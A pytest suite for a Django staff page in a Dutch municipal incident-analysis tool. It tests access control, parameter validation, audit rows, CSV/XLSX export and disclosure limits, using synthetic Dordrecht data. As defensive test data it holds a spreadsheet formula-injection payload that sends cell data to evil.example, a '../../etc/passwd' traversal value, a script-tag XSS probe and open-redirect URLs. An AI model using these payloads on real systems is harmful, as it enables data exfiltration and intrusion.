"""The staff area page (issue 14): who may open it, what every query parameter may be, the audit rows, the
csv/xlsx export (formula injection neutralised), ``events_for_analysis``, and the page in headless Chromium
at 375 and 1280 px.

The workspace is Dordrecht: CBS regions and buurt boundaries from the shared data, a focus area, and
synthetic police incidents (seeded) in the Binnenstad with a planted Saturday-night concentration in one
100 m cell, ingested as an ``illustratief`` file.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from ivp.reports.wijkscan.focus import Area
from ivp.sources.base import ingest
from ivp.sources.politie_incidenten import rd_to_wgs84
from ivp.store import Store
from ivp.web.audit.models import AuditEvent
from ivp.web.meldingen import services
from ivp.web.meldingen.models import Category, Melding
from ivp.web.staff import area_analysis, area_views
from ivp.workspace import Workspace
from tests.web.conftest import SHARED
from tests.web.factories import make_melding, make_user

WIJK = "WK050501"  # Wijk 01 Binnenstad
FOCUS = "binnenstad-noord"
HOT_X, HOT_Y = 105_050.0, 425_450.0  # the planted cell's centre (RD New)
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HEADER = [
    "Incident Identificatie", "Incidentsoort code", "Incidentsoort", "Pleeggemeente",
    "Begin-pleegdatum/tijd", "Eind-pleegdatum/tijd", "X", "Y",
]  # fmt: skip


def _incidents(path: Path, seed: int = 14) -> Path:
    """400 thefts spread over the Binnenstad and two years, plus 80 on Saturday 23:00 in one cell."""
    rng = np.random.default_rng(seed)
    rows = []
    start = np.datetime64("2023-01-01T00:00")
    for i in range(400):
        begin = start + np.timedelta64(int(rng.integers(0, 2 * 365 * 24 * 60)), "m")
        end = begin + np.timedelta64(int(rng.integers(0, 6 * 60)), "m")
        x, y = 104_700 + rng.uniform(0, 900), 425_100 + rng.uniform(0, 700)
        rows.append(
            [f"T{i}", "A72", "Diefstal Fiets", "Dordrecht", str(begin), str(end), f"{x:.0f}", f"{y:.0f}"]
        )
    saturday = np.datetime64("2023-01-07T23:00")  # a Saturday
    for i in range(80):
        begin = (
            saturday
            + np.timedelta64(7 * int(rng.integers(0, 100)), "D")
            + np.timedelta64(int(rng.integers(0, 50)), "m")
        )
        x, y = HOT_X + rng.uniform(-40, 40), HOT_Y + rng.uniform(-40, 40)
        rows.append(
            [f"H{i}", "A72", "Diefstal Fiets", "Dordrecht", str(begin), str(begin), f"{x:.0f}", f"{y:.0f}"]
        )
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def dordrecht(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    root = tmp_path_factory.mktemp("area") / "ws"
    workspace = Workspace.create(root, "GM0505", "GM0505")
    with Store(workspace.store_path) as store:
        ingest(store, "cbs", str(SHARED / "cbs" / "47018NED"), dataset="47018NED")
        ingest(store, "geo", str(SHARED / "geo" / "dordrecht_buurten_2024.geojson"))
        csv_path = _incidents(root.parent / "illustratief-incidenten.csv")
        ingest(store, "politie-incidenten", str(csv_path), gemeente="GM0505")
    (root / "aandachtsgebieden.yaml").write_text(
        f"aandachtsgebieden:\n  - id: {FOCUS}\n    naam: Binnenstad-Noord\n    buurten: [BU05050101, BU05050108]\n",
        encoding="utf-8",
    )
    return workspace


@pytest.fixture
def served(dordrecht: Workspace) -> Iterator[Workspace]:
    area_views._read_areas.cache_clear()
    with override_settings(WORKSPACE=dordrecht):
        yield dordrecht
    area_views._read_areas.cache_clear()


def page_url(code: str = WIJK, **params: str) -> str:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return reverse("staff:gebied_detail", args=[code]) + (f"?{query}" if query else "")


def export_url(fmt: str, code: str = WIJK, **params: str) -> str:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return reverse("staff:gebied_export", args=[code, fmt]) + (f"?{query}" if query else "")


# -- who may open it ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "status"), [("analist", 200), ("beheerder", 200), ("owner", 403), ("nobody", 403)]
)
def test_only_analysts_and_beheerders_open_the_page(
    served: Workspace, actors: dict[str, Any], login: Callable[[Any], Client], who: str, status: int
) -> None:
    client = login(actors[who])
    assert client.get(reverse("staff:gebied")).status_code == status
    assert client.get(page_url()).status_code == status
    assert client.get(export_url("csv")).status_code == status
    # A refused user leaves no view or export row: nothing was shown.
    refused = status == 403
    assert AuditEvent.objects.filter(object_type="gebied").exists() is not refused


def test_anonymous_goes_to_the_login(served: Workspace, client: Client, db: Any) -> None:
    for url in (reverse("staff:gebied"), page_url(), export_url("xlsx")):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("accounts:login"))
    assert not AuditEvent.objects.filter(object_type="gebied").exists()


def test_without_the_second_factor_it_asks_for_the_code(
    served: Workspace, actors: dict[str, Any], client: Client
) -> None:
    client.force_login(actors["analist"], backend="django.contrib.auth.backends.ModelBackend")
    for url in (reverse("staff:gebied"), page_url(), export_url("csv")):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"] == reverse("accounts:otp")
    assert not AuditEvent.objects.filter(object_type="gebied").exists()


def test_the_navigation_links_the_page_only_for_who_may_open_it(
    served: Workspace, actors: dict[str, Any], login: Callable[[Any], Client]
) -> None:
    link = f'href="{reverse("staff:gebied")}"'
    assert link in login(actors["analist"]).get(reverse("staff:home")).content.decode()
    assert link not in login(actors["owner"]).get(reverse("staff:home")).content.decode()


# -- query parameters --------------------------------------------------------------------------------------


@pytest.fixture
def analist(served: Workspace, actors: dict[str, Any], login: Callable[[Any], Client]) -> Client:
    return login(actors["analist"])


def test_an_unknown_area_is_404(analist: Client) -> None:
    assert analist.get(page_url("WK999999")).status_code == 404
    assert analist.get(export_url("csv", "WK999999")).status_code == 404
    assert analist.get(export_url("pdf")).status_code == 404
    assert not AuditEvent.objects.filter(object_type="gebied").exists()


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"van": "31-12-2024"}, "Geef een datum als jjjj-mm-dd"),
        ({"tot": "gisteren"}, "Geef een datum als jjjj-mm-dd"),
        ({"van": "2024-02-30"}, "Geef een datum als jjjj-mm-dd"),
        ({"van": "2024-06-01", "tot": "2024-01-01"}, "De einddatum ligt voor de begindatum."),
        ({"bron": "../../etc/passwd"}, "Kies incidenten of meldingen."),
        ({"van": "<script>alert(1)</script>"}, "Geef een datum als jjjj-mm-dd"),
    ],
)
def test_a_bad_parameter_is_400_with_a_dutch_message(
    analist: Client, params: dict[str, str], message: str
) -> None:
    for url in (page_url(**params), export_url("csv", **params)):
        response = analist.get(url)
        assert response.status_code == 400
        body = response.content.decode()
        assert message in body
        assert "<script>alert" not in body  # what was typed comes back escaped, if at all
    assert not AuditEvent.objects.filter(object_type="gebied").exists()


def test_the_picker_redirects_only_to_the_area_page(analist: Client) -> None:
    response = analist.get(
        reverse("staff:gebied"), {"gebied": WIJK, "bron": "meldingen", "van": "2024-01-01"}
    )
    assert response.status_code == 302
    assert response["Location"] == f"{page_url()}?bron=meldingen&van=2024-01-01"
    for evil in ("https://evil.example/", "//evil.example", "../../beheer/", f"{WIJK}/../../beheer"):
        response = analist.get(reverse("staff:gebied"), {"gebied": evil})
        assert response.status_code == 400
        assert "Kies een gebied uit de lijst." in response.content.decode()
    # A path segment that is no area is a 404, also when it looks like a traversal.
    assert analist.get(reverse("staff:gebied") + "..%2F..%2Fbeheer/").status_code == 404


def test_the_picker_lists_wijken_buurten_and_focus_areas(analist: Client) -> None:
    body = analist.get(reverse("staff:gebied")).content.decode()
    for group in ("Gemeente", "Wijken", "Buurten", "Aandachtsgebieden"):
        assert f'<optgroup label="{group}">' in body
    assert f'value="{WIJK}"' in body
    assert f'value="{FOCUS}"' in body
    assert 'value="BU05050101"' in body


# -- the page ----------------------------------------------------------------------------------------------


def test_the_page_shows_statements_pictures_and_the_planted_hot_time_and_place(analist: Client) -> None:
    response = analist.get(page_url())
    assert response.status_code == 200
    assert response["Cache-Control"].startswith("max-age=0")  # never_cache
    body = response.content.decode()
    assert "Illustratieve gegevens, geen echte cijfers van" in body
    assert 'class="chart heat"' in body
    assert 'class="hotplaces"' in body  # not "map": the site's stylesheet fills ".map path"
    assert 'id="warmtetabel-tekst"' in body  # the text alternative of the heat table
    n = response.context["result"].n_events
    assert 80 < n <= 480
    assert body.count(f"Met {n} incidenten") >= 2  # both sufficiency statements name the count
    # The planted concentration: Saturday 23-24 h is the top hot hour and is flagged.
    hours = response.context["hot_hours"]
    assert (hours[0]["dag"], hours[0]["uur"]) == ("zaterdag", "23-24")
    assert hours[0]["oordeel"] == "meer dan verwacht"
    planted = max(response.context["hot_cells"], key=lambda c: c["aantal"])
    assert planted["aantal"] >= 80
    assert abs(planted["x_rd"] - HOT_X) <= 100
    assert abs(planted["y_rd"] - HOT_Y) <= 100
    assert planted["oordeel"] == "meer dan verwacht"
    event = AuditEvent.objects.get(object_type="gebied", action="view")
    assert (event.object_id, event.actor_name) == (WIJK, "analist")
    assert event.after == {"gebied": WIJK, "bron": "incidenten"}


def test_the_period_narrows_the_events(analist: Client) -> None:
    whole = analist.get(page_url()).context["result"].n_events
    half = analist.get(page_url(van="2024-01-01", tot="2024-12-31")).context["result"].n_events
    assert 0 < half < whole
    event = AuditEvent.objects.filter(object_type="gebied", action="view").latest("at")
    assert event.after == {"gebied": WIJK, "bron": "incidenten", "van": "2024-01-01", "tot": "2024-12-31"}


def test_a_focus_area_and_a_buurt_render(analist: Client) -> None:
    for code in (FOCUS, "BU05050101"):
        response = analist.get(page_url(code))
        assert response.status_code == 200, code
        assert response.context["area"].code == code


def test_a_period_without_events_says_so(analist: Client) -> None:
    response = analist.get(page_url(van="2030-01-01"))
    assert response.status_code == 200
    assert response.context["result"].n_events == 0
    assert "Geen incidenten in dit gebied in deze periode" in response.content.decode()
    rows = analist.get(export_url("csv", van="2030-01-01")).content.decode("utf-8-sig").splitlines()
    assert len(rows) == 2  # the header and the source line: no table without events


def test_a_locked_store_is_a_503_with_a_dutch_message(
    analist: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    def locked(path: object) -> None:
        raise area_analysis.StoreUnavailableError(str(path))

    analist.get(reverse("staff:gebied"))  # the areas are read (and kept) before the store is locked
    monkeypatch.setattr(area_analysis, "open_store", locked)
    for url in (page_url(), export_url("csv")):
        response = analist.get(url)
        assert response.status_code == 503
        assert response["Retry-After"] == "120"
        assert "Probeer het over een paar minuten opnieuw." in response.content.decode()
    assert not AuditEvent.objects.filter(object_type="gebied").exists()


# -- meldingen as events -----------------------------------------------------------------------------------


def _planted_meldingen(n: int = 3) -> Category:
    """A category whose name is a formula, and meldingen with (``n``) and without a location."""
    evil = Category.objects.create(slug="formule", naam=ATTACK)
    lon, lat = rd_to_wgs84(np.array([HOT_X]), np.array([HOT_Y]))
    when = timezone.make_aware(dt.datetime(2024, 3, 2, 23, 15))
    for _i in range(n):
        make_melding(categorie=evil, tijd_van=when, tijd_tot=when + dt.timedelta(minutes=30),
                     lat=float(lat[0]), lon=float(lon[0]), buurt_code="BU05050101")  # fmt: skip
    make_melding(categorie=evil, tijd_van=None, tijd_tot=None, lat=None, lon=None, buurt_code="")
    return evil


def test_events_for_analysis_has_the_columns_and_nothing_personal(db: Any) -> None:
    _planted_meldingen()
    frame = services.events_for_analysis()
    assert tuple(frame.columns) == services.EVENT_COLUMNS
    assert len(frame) == Melding.objects.count() == 4
    placed = frame[frame["region"] == "BU05050101"]
    assert len(placed) == 3
    assert np.allclose(placed["x_rd"], HOT_X, atol=0.01)
    assert np.allclose(placed["y_rd"], HOT_Y, atol=0.01)
    # Naive local time (Europe/Amsterdam): 23:15 as entered.
    assert (placed["begin_at"] == np.datetime64("2024-03-02T23:15")).all()
    assert (placed["end_at"] == np.datetime64("2024-03-02T23:45")).all()
    unplaced = frame[frame["region"].isna()].iloc[0]
    assert np.isnan(unplaced["x_rd"])
    assert unplaced["end_at"] == unplaced["begin_at"]
    assert set(frame["source"]) == {"meldpunt"}
    assert set(frame["dataset"]) == {"meldingen"}
    text = frame.astype(str).to_string()
    for personal in ("Voorstraat", "06-12345678", "nageroepen"):  # the factory's text
        assert personal not in text


def test_events_for_analysis_keeps_erased_meldingen_and_bounds_the_window(db: Any) -> None:
    _planted_meldingen()
    melding = Melding.objects.filter(lat__isnull=False).first()
    assert melding is not None
    Melding.objects.filter(pk=melding.pk).update(tekst="", lat=None, lon=None, gewist_op=timezone.now())
    frame = services.events_for_analysis()
    assert len(frame) == 4
    assert int(frame["x_rd"].isna().sum()) == 2
    assert len(services.events_for_analysis(since=dt.date(2024, 3, 2), until=dt.date(2024, 3, 3))) == 3
    assert len(services.events_for_analysis(until=dt.date(2024, 3, 2))) == 0  # until is exclusive
    assert len(services.events_for_analysis(since=dt.date(2024, 3, 3), until=dt.date(2025, 1, 1))) == 0


# -- export ------------------------------------------------------------------------------------------------


def test_the_csv_export_is_audited_neutralised_and_safely_named(analist: Client) -> None:
    _planted_meldingen(6)  # 7 in the formula category, the actors' melding (1) in another one
    response = analist.get(export_url("csv", bron="meldingen"))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"].split(", ")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="gebied-{WIJK}-meldingen.csv"'
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:3] == ["onderdeel", "naam", "dag"]
    assert sum(r[0] == "tijd" for r in rows) == 7 * 24
    assert rows[0][-1] == "onderdrukt"
    # 7 and 1 with their total 8 published: the 1 is suppressed, and so the 7 (8 - 7 would give it away).
    category = [r for r in rows if r and r[0] == "categorie" and ATTACK in r[1]]
    assert category == [["categorie", "'" + ATTACK, "", "", "", "", "", "", "", "", "", "", "", "", "", "ja"]]
    assert all(r[8] == "" and r[-1] == "ja" for r in rows if r and r[0] == "categorie")
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+@" or cell.startswith("'")
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell), cell
    event = AuditEvent.objects.get(object_type="gebied", action="export")
    assert event.after == {"gebied": WIJK, "formaat": "csv", "regels": len(rows) - 2, "bron": "meldingen"}


def test_the_xlsx_export_holds_text_cells_and_numbers(analist: Client) -> None:
    _planted_meldingen(6)
    response = analist.get(export_url("xlsx", bron="meldingen"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="gebied-{WIJK}-meldingen.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    category = next(r for r in values if r[0] == "categorie" and ATTACK in str(r[1]))
    assert category[1] == "'" + ATTACK
    assert (category[8], category[15]) == (None, "ja")  # suppressed: see the csv test
    planted = [r for r in values if r[0] == "plaats" and r[8] == 6]
    assert len(planted) == 1  # the six in one cell are a number, shown as a number
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert AuditEvent.objects.filter(object_type="gebied", action="export", object_id=WIJK).count() == 1


def test_a_focus_area_id_makes_a_safe_filename(served: Workspace) -> None:
    area = Area("aandachtsgebied", 'a"b/../c;\r\nd', "x", (), None)
    name = area_analysis.filename(area, "incidenten", "csv")
    assert name == "gebied-a_b_c_d-incidenten.csv"


def test_meldingen_as_the_source_find_the_planted_place(analist: Client) -> None:
    _planted_meldingen(6)
    response = analist.get(page_url(bron="meldingen"))
    assert response.status_code == 200
    result = response.context["result"]
    # The six planted and the actors' melding (a buurt, no place); not the one without buurt or place.
    assert result.n_events == 7
    assert result.places.n_events == 6
    assert not result.illustrative
    body = response.content.decode()
    assert "Met 7 meldingen" in body
    # 6 with a place of 7 would show the one without a place: the number with a place is not named.
    assert "Met 6 meldingen" not in body
    assert "Met de meldingen met een plaats" in body
    assert "zonder plaats tellen niet mee" in body
    assert [c["aantal"] for c in response.context["hot_cells"]] == [6.0]


# -- disclosure control for meldingen (ADR 0009) -----------------------------------------------------------

BUURT = "BU05050101"


def _meldingen_at(n: int, x: float, y: float, when: dt.datetime, categorie: Category | None = None) -> None:
    lon, lat = rd_to_wgs84(np.array([x]), np.array([y]))
    start = timezone.make_aware(when)
    for _i in range(n):
        extra = {"categorie": categorie} if categorie is not None else {}
        make_melding(tijd_van=start, tijd_tot=start + dt.timedelta(minutes=20), lat=float(lat[0]),
                     lon=float(lon[0]), buurt_code=BUURT, **extra)  # fmt: skip


def _export_rows(client: Client, code: str, **params: str) -> list[list[str]]:
    response = client.get(export_url("csv", code, **params))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_one_melding_on_one_day_in_a_buurt_is_not_shown(analist: Client) -> None:
    """The reviewer's reproduction: one melding in a buurt, the analist asks for that buurt and that day."""
    _meldingen_at(1, HOT_X, HOT_Y, dt.datetime(2024, 3, 2, 23, 15))
    day = {"bron": "meldingen", "van": "2024-03-02", "tot": "2024-03-02"}
    response = analist.get(page_url(BUURT, **day))
    assert response.status_code == 200
    result = response.context["result"]
    assert result.n_events == 1
    assert (result.params["van"], result.params["tot"]) == ("2024-03-01", "2024-03-31")  # whole months
    assert result.times is None
    assert result.places is None
    body = response.content.decode()
    assert "Te weinig meldingen in dit gebied en deze periode om iets te tonen." in body
    assert "Voor meldingen tellen hele maanden" in body
    assert "01-03-2024 tot en met 31-03-2024" in body
    assert "minder dan 5 meldingen in het gebied" in body
    for absent in ('id="warmtetabel-tekst"', 'id="hete-cellen"', 'class="hotplaces"', "Met 1 melding"):
        assert absent not in body
    assert "1 meldingen" not in body
    for key in ("heat_rows", "hot_cells", "hot_hours", "map_svg"):
        assert key not in response.context
    rows = _export_rows(analist, BUURT, **day)
    assert len(rows) == 2  # the header and the source line
    assert "Te weinig meldingen" in rows[-1][0]
    assert "meldingen (1)" not in rows[-1][0]
    assert "01-03-2024 tot en met 31-03-2024" in rows[-1][0]
    event = AuditEvent.objects.get(object_type="gebied", action="export")
    assert event.after is not None
    assert (event.after["van"], event.after["regels"]) == ("2024-03-01", 0)


def test_a_group_of_meldingen_shows_and_a_lone_one_beside_it_does_not(analist: Client) -> None:
    """Six in one cell on Saturday night (shown), five in another later in the month and one alone in a
    third: the lone one is suppressed, and so the five (6 + 5 + 1 = 12 is published), not the six."""
    cat = Category.objects.create(slug="overlast", naam="Overlast")
    _meldingen_at(6, HOT_X, HOT_Y, dt.datetime(2024, 3, 2, 23, 15), cat)
    _meldingen_at(5, HOT_X - 300, HOT_Y, dt.datetime(2024, 3, 20, 10, 10), cat)
    _meldingen_at(1, HOT_X + 250, HOT_Y - 250, dt.datetime(2024, 3, 5, 4, 10), cat)
    day = {"bron": "meldingen", "van": "2024-03-02", "tot": "2024-03-02"}
    response = analist.get(page_url(WIJK, **day))
    assert response.status_code == 200
    result = response.context["result"]
    assert result.n_events == 12  # the period is March: the 5th and the 20th count
    threshold = response.context["drempel"]
    assert threshold == 5
    assert [c["aantal"] for c in response.context["hot_cells"]] == [6.0]
    assert all(h["aantal"] >= threshold for h in response.context["hot_hours"])
    shown = [v for _label, row in response.context["heat_rows"] for v in row if v is not None]
    assert sorted({v for v in shown if v > 0}) == [6.0]  # Saturday 23-24; the 5 and the 1 are '<5'
    hidden = [v for _label, row in response.context["heat_rows"] for v in row if v is None]
    assert len(hidden) >= 2
    body = response.content.decode()
    assert "<td>&lt;5</td>" in body
    assert "Met 12 meldingen" in body
    # The map draws only the cell of six: every drawn cell's title is its count.
    cells_drawn = re.findall(
        r'<rect x="[^"]+" y="[^"]+" width="[^"]+" height="[^"]+" fill="#[0-9a-f]+"><title>([^<]+)</title>',
        str(response.context["map_svg"]),
    )
    assert cells_drawn in (["6"], ["6,0"], ["6.0"]), cells_drawn
    rows = _export_rows(analist, WIJK, **day)
    category = [r for r in rows if r[0] == "categorie"]
    assert category == [["categorie", "Overlast", "", "", "", "", "", "", "12", "", "", "", "", "", "", ""]]
    places = [r for r in rows if r[0] == "plaats" and r[8]]
    assert [float(r[8]) for r in places] == [6.0]
    times = [r for r in rows if r[0] == "tijd"]
    assert len(times) == 7 * 24
    counts = [float(r[8]) for r in times if r[8]]
    assert all(v == 0 or v >= threshold for v in counts), counts
    assert sum(r[-1] == "ja" for r in times) >= 2
    assert all(r[10] == r[13] == "" for r in times if r[-1] == "ja")  # no ratio or q to undo it


# -- in the browser ----------------------------------------------------------------------------------------

SHOTS = Path(os.environ.get("IVP_AREA_SCREENSHOTS", "/tmp/work"))  # noqa: S108 - where the issue's screenshots go


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_page_in_chromium_at_phone_and_desktop_width(served: Workspace, live_server: Any) -> None:
    from playwright.sync_api import sync_playwright

    from tests.web.test_browser import AXE, CHROMIUM_ARGS, CSP_LISTENER, PHONE, page_problems, staff_context

    assert AXE.exists(), f"{AXE} missing: scripts/check installs axe-core from npm"
    analist = make_user(username="analist", role="analist")
    found: dict[str, Any] = {}
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        for width, viewport in ((375, PHONE), (1280, {"width": 1280, "height": 900})):
            page = staff_context(browser, live_server.url, analist, viewport=viewport).new_page()  # type: ignore[arg-type]
            page.goto(f"{live_server.url}/staf/")
            page.get_by_role("link", name="Gebieden").click()
            found[f"kiezen {width}"] = page_problems(page, f"kiezen {width}")
            page.get_by_label("Gebied").select_option(WIJK)
            page.get_by_role("button", name="Toon het gebied").click()
            page.wait_for_url(f"**/staf/gebied/{WIJK}/**")
            assert page.locator("svg.heat rect").count() > 7 * 24
            assert page.locator("svg.hotplaces rect").count() > 10
            # The area's outline is not filled over the grid cells (the site's ".map path" rule).
            fill = page.locator("svg.hotplaces path").last.evaluate("p => getComputedStyle(p).fill")
            assert fill == "none", fill
            assert page.locator("#warmtetabel svg").bounding_box()["width"] <= width  # type: ignore[index]
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            found[f"gebied {width}"] = page_problems(page, f"gebied {width}")
            page.screenshot(path=str(SHOTS / f"area-{width}.png"), full_page=True)
        # Under the Content-Security-Policy (no bypass): the inline SVGs break no rule (no style attributes).
        strict = staff_context(browser, live_server.url, analist, bypass_csp=False)
        strict.add_init_script(CSP_LISTENER)
        page = strict.new_page()
        response = page.goto(f"{live_server.url}{page_url()}")
        assert response is not None
        assert "script-src 'self'" in response.headers["content-security-policy"]
        page.wait_for_load_state()
        found["csp"] = page.evaluate("window.__csp")
        browser.close()
    assert {k: v for k, v in found.items() if v} == {}, found
